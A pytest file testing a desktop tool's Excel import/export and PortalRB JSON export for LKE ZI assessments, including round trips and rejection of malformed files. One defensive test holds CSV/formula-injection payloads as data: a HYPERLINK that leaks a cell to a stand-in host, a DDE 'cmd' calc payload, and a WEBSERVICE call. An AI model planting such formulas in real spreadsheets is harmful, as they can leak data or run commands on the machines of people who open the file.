"""``zi import-excel``, ``export-excel`` and ``export-portalrb``: confirmation, bad files,
round trips, the PortalRB document."""

from __future__ import annotations

import json
import re
import shutil
import zipfile
from fractions import Fraction
from pathlib import Path

import pytest
from interop_data import LKE, TEMPLATE, UNIT
from openpyxl import Workbook, load_workbook  # type: ignore[import-untyped]

from zi_desktop.cli.main import main
from zi_desktop.interop.reader import ImportPlan
from zi_desktop.lke.model import Definition
from zi_desktop.services import interop
from zi_desktop.services.workspace import Workspace

TIERS = ("unit", "tpi")


def answers_of(definition: Definition, shift: int) -> dict[str, object]:
    out: dict[str, object] = {}
    for n, node in enumerate(definition.answer_ids()):
        item = definition.items.get(node)
        if item is None:
            out[node] = (n + shift) % 9
        elif item.options:
            out[node] = item.options[(n + shift) % len(item.options)].code
        else:
            out[node] = Fraction(325 + shift, 100)
    return out


def fill_workspace(folder: Path, definition: Definition) -> None:
    with Workspace.open(folder, create=False, actor="tester") as ws:
        for shift, tier in enumerate(("unit", "tpi")):
            notes = {
                "A.I.1.i.a": f"catatan {tier}\nbaris kedua",
                "A.I.2.i.b": "Bukti dukung: SOP.pdf",
                "A.II.5.iii.b": "dua\n\nBukti dukung: daftar LHKASN; tanda terima",
            }
            plan = ImportPlan(
                Path("-"),
                LKE,
                answers=answers_of(definition, shift),  # type: ignore[arg-type]
                notes=notes,
            )
            interop.apply_excel_import(ws, UNIT.code, tier, plan)


def state(folder: Path) -> dict[str, dict[str, tuple[object, str]]]:
    with Workspace.open(folder, create=False) as ws:
        view = ws.open_assessment(UNIT.code)
        return {t: {n: (a.value, a.note) for n, a in view.answers[t].items()} for t in TIERS}


def zi(*args: str) -> int:
    return main(["--lang", "en", *args])


def test_export_then_import_is_lossless(
    ws_folder: Path, definition: Definition, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fill_workspace(ws_folder, definition)
    before = state(ws_folder)
    out = tmp_path / "lke.xlsx"
    assert (
        zi("export-excel", "--workspace", str(ws_folder), "--unit", UNIT.code, "-o", str(out)) == 0
    )
    book = load_workbook(out)
    assert {"LKE ZI", "LKE ZI TPI", "Utama", "Ctt Eval"} <= set(book.sheetnames)
    assert book["LKE ZI"]["L175"].value == "=SUM(L176,L183)"  # LHK sub-area repaired
    assert book["LKE ZI"]["K185"].value.startswith("=IF(OR(K186")
    # a percentage question's note is on its own row (LHKASN: 184), not on its inputs'
    assert book["LKE ZI"]["O184"].value == "dua"
    assert book["LKE ZI"]["P184"].value == "daftar LHKASN; tanda terima"
    assert book["LKE ZI"]["O186"].value is None and book["LKE ZI"]["P186"].value is None
    # into a fresh workspace: every answer and note comes back
    fresh = tmp_path / "fresh"
    shutil.copytree(ws_folder, fresh)
    with Workspace.open(fresh, create=False) as ws:
        every_row = {n: 1 for n in definition.answer_ids()}
        for tier in TIERS:  # a workbook with every row blank, cleared on purpose
            blank = ImportPlan(Path("-"), LKE, rows=every_row)
            interop.apply_excel_import(ws, UNIT.code, tier, blank, clear_blank=True)
        assert all(
            not a.value and not a.note
            for t in TIERS
            for a in ws.open_assessment(UNIT.code).answers[t].values()
        )
    for tier in TIERS:
        args = ["import-excel", str(out), "--workspace", str(fresh), "--unit", UNIT.code]
        assert zi(*args, "--tier", tier, "--yes") == 0
    assert state(fresh) == before
    capsys.readouterr()
    # and importing it again changes nothing
    assert (
        zi(
            "import-excel",
            str(out),
            "--workspace",
            str(fresh),
            "--unit",
            UNIT.code,
            "--tier",
            "tpi",
            "--yes",
        )
        == 0
    )
    assert (
        "0 answers set, 0 answers cleared, 0 notes set, 0 notes cleared" in capsys.readouterr().out
    )


def test_without_yes_and_without_a_terminal_nothing_is_written(
    ws_folder: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    book = load_workbook(TEMPLATE)
    book["LKE ZI"]["K8"] = "ya"
    path = tmp_path / "one.xlsx"
    book.save(path)
    args = ["import-excel", str(path), "--workspace", str(ws_folder), "--unit", UNIT.code]
    assert zi(*args, "--tier", "unit") == 1
    captured = capsys.readouterr()
    assert "A.I.1.i.a" in captured.out and "Ya" in captured.out
    assert "--yes" in captured.err
    assert state(ws_folder)["unit"] == {}


def test_a_terminal_is_asked(
    ws_folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    book = load_workbook(TEMPLATE)
    book["LKE ZI"]["K8"] = "Tidak"
    path = tmp_path / "one.xlsx"
    book.save(path)
    args = ["import-excel", str(path), "--workspace", str(ws_folder), "--unit", UNIT.code]
    monkeypatch.setattr("sys.stdin.isatty", lambda: True)
    monkeypatch.setattr("builtins.input", lambda _prompt: "")
    assert zi(*args, "--tier", "unit") == 1
    assert state(ws_folder)["unit"] == {}
    monkeypatch.setattr("builtins.input", lambda _prompt: "y")
    assert zi(*args, "--tier", "unit") == 0
    assert state(ws_folder)["unit"]["A.I.1.i.a"][0] == "Tidak"


def _bad_files(tmp_path: Path) -> dict[str, Path]:
    text = tmp_path / "notes.xlsx"
    text.write_text("Nama,Jawaban\nA,Ya\n", encoding="utf-8")
    other = tmp_path / "other.xlsx"
    book = Workbook()
    book.active.title = "Sheet1"
    book.save(other)
    locked = tmp_path / "locked.xlsx"  # what Excel writes for a password: an OLE container
    locked.write_bytes(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "EncryptedPackage".encode("utf-16-le")
    )
    corrupt = tmp_path / "corrupt.xlsx"
    corrupt.write_bytes(TEMPLATE.read_bytes()[:3000])
    damaged = tmp_path / "damaged.xlsx"  # a zip, but not a workbook
    with zipfile.ZipFile(damaged, "w") as z:
        z.writestr("hello.txt", "hi")
    return {
        "is a text file (such as CSV), not an Excel workbook": text,
        "has no sheet that looks like the LKE ZI": other,
        "protected with a password": locked,
        "is damaged": corrupt,
        "a ZIP archive but not a workbook": damaged,
    }


def test_bad_files_give_one_message_exit_2_and_change_nothing(
    ws_folder: Path,
    definition: Definition,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    fill_workspace(ws_folder, definition)
    before = state(ws_folder)
    for expected, path in _bad_files(tmp_path).items():
        for extra in ([], ["--yes"]):
            args = ["import-excel", str(path), "--workspace", str(ws_folder), "--unit", UNIT.code]
            assert zi(*args, "--tier", "tpi", *extra) == 2, path
            captured = capsys.readouterr()
            assert captured.out == ""
            assert expected in captured.err and captured.err.count("\n") == 1, captured.err
    assert state(ws_folder) == before


def test_export_portalrb(ws_folder: Path, definition: Definition, tmp_path: Path) -> None:
    fill_workspace(ws_folder, definition)
    out = tmp_path / "portalrb.json"
    assert (
        zi("export-portalrb", "--workspace", str(ws_folder), "--unit", UNIT.code, "-o", str(out))
        == 0
    )
    doc = json.loads(out.read_text(encoding="utf-8"))
    assert doc["format"] == "zi-portalrb/1" and doc["lke"] == LKE and doc["tahun"] == 2026
    soal = doc["soal"]
    assert len(soal) == 127 and list(soal) == [str(i) for i in range(1, 128)]
    keys = {
        "node",
        "jawaban_unit",
        "jawaban_tpi",
        "catatan_unit",
        "bukti_dukung_unit",
        "catatan_tpi",
    }
    assert all(set(s) == keys for s in soal.values())
    unit, tpi = answers_of(definition, 0), answers_of(definition, 1)
    for s in soal.values():
        expect_unit, expect_tpi = unit[s["node"]], tpi[s["node"]]
        if isinstance(expect_unit, Fraction):
            assert Fraction(str(s["jawaban_unit"])) == expect_unit
            assert Fraction(str(s["jawaban_tpi"])) == expect_tpi
        else:
            assert (s["jawaban_unit"], s["jawaban_tpi"]) == (expect_unit, expect_tpi)
    first = soal["1"]
    assert first["catatan_unit"] == "catatan unit\nbaris kedua"
    assert first["catatan_tpi"] == "catatan tpi\nbaris kedua"
    sop = soal[str(definition.items["A.I.2.i.b"].portalrb_soal_id)]
    assert sop["catatan_unit"] == "" and sop["bukti_dukung_unit"]["keterangan"] == "SOP.pdf"
    lhk = soal["117"]  # A.II.5.iii.b.1 carries the percentage question's notes
    assert lhk["node"] == "A.II.5.iii.b.1" and lhk["catatan_unit"] == "dua"
    assert lhk["bukti_dukung_unit"]["keterangan"] == "daftar LHKASN; tanda terima"
    assert '"jawaban_unit": 3.25' in out.read_text(encoding="utf-8")  # exact decimal


def test_unknown_unit_exits_2(ws_folder: Path, tmp_path: Path) -> None:
    out = tmp_path / "x.json"
    assert (
        zi("export-portalrb", "--workspace", str(ws_folder), "--unit", "NOPE", "-o", str(out)) == 2
    )
    assert not out.exists()


@pytest.mark.parametrize(
    "note",
    [
        '=HYPERLINK("http://example.invalid/?"&A1,"klik")',
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=WEBSERVICE("http://example.invalid/")',
    ],
)
def test_notes_that_look_like_formulas_are_written_as_text(
    ws_folder: Path, definition: Definition, tmp_path: Path, note: str
) -> None:
    fill_workspace(ws_folder, definition)
    with Workspace.open(ws_folder, create=False, actor="tester") as ws:
        notes = {"A.I.1.i.a": note, "A.I.2.i.b": f"catatan\n\nBukti dukung: {note}"}
        plan = ImportPlan(
            Path("-"),
            LKE,
            answers=answers_of(definition, 0),  # type: ignore[arg-type]
            notes=notes,
        )
        interop.apply_excel_import(ws, UNIT.code, "unit", plan)
    before = state(ws_folder)
    out = tmp_path / "lke.xlsx"
    assert (
        zi("export-excel", "--workspace", str(ws_folder), "--unit", UNIT.code, "-o", str(out)) == 0
    )
    sheet = load_workbook(out)["LKE ZI"]
    o8, p_row = sheet["O8"], definition.items["A.I.2.i.b"].excel_row
    assert o8.value == note and o8.data_type == "s" and o8.quotePrefix  # text, never a formula
    assert sheet.cell(p_row, 16).value == note and sheet.cell(p_row, 16).data_type == "s"
    with zipfile.ZipFile(out) as archive:  # no formula cell in the O and P columns
        xml = archive.read("xl/worksheets/sheet3.xml").decode()
    assert re.search(r'<c r="O8"[^>]* t="inlineStr"><is><t>=', xml)  # a text cell
    assert not re.search(r"<f>[^<]*(HYPERLINK|WEBSERVICE|1\+1|cmd)", xml)
    for tier in TIERS:  # and read back: the same notes
        assert (
            zi(
                "import-excel",
                str(out),
                "--workspace",
                str(ws_folder),
                "--unit",
                UNIT.code,
                "--tier",
                tier,
                "--yes",
            )
            == 0
        )
    assert state(ws_folder) == before
